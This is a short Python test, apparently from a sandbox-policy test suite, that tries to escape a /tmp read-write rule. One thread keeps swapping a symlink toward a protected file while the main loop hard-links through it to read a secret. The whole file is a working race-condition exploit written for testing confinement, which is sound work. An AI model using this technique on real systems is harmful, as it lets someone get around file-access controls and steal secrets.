# class: files
# rule: read_write_tmp
# success: a link gets a second name while another thread points it at a file of /tmp
# proof: read
# needs: one-filesystem
# unreported: a policy that only reports makes the link to whatever is there at that moment
# timeout: 40
import os
import threading
import time

from attack import FILE, SECRET, attempt


@attempt
def steal():
    here = os.open(".", os.O_RDONLY | os.O_DIRECTORY)
    with open("harmless", "w") as opened:
        opened.write("nothing")
    os.symlink("harmless", "turning")
    end = time.monotonic() + 5
    found = []

    def turn():
        while not found and time.monotonic() < end:
            for target in (FILE, "harmless"):
                os.symlink(target, "next")
                os.replace("next", "turning")

    thread = threading.Thread(target=turn)
    thread.start()
    while not found and time.monotonic() < end:
        try:
            os.link("turning", "second", src_dir_fd=here, follow_symlinks=True)
        except OSError:
            continue
        with open("second") as opened:
            text = opened.read()
        os.unlink("second")
        if SECRET in text:
            found.append(text)
    thread.join()
    return found[0] if found else ""
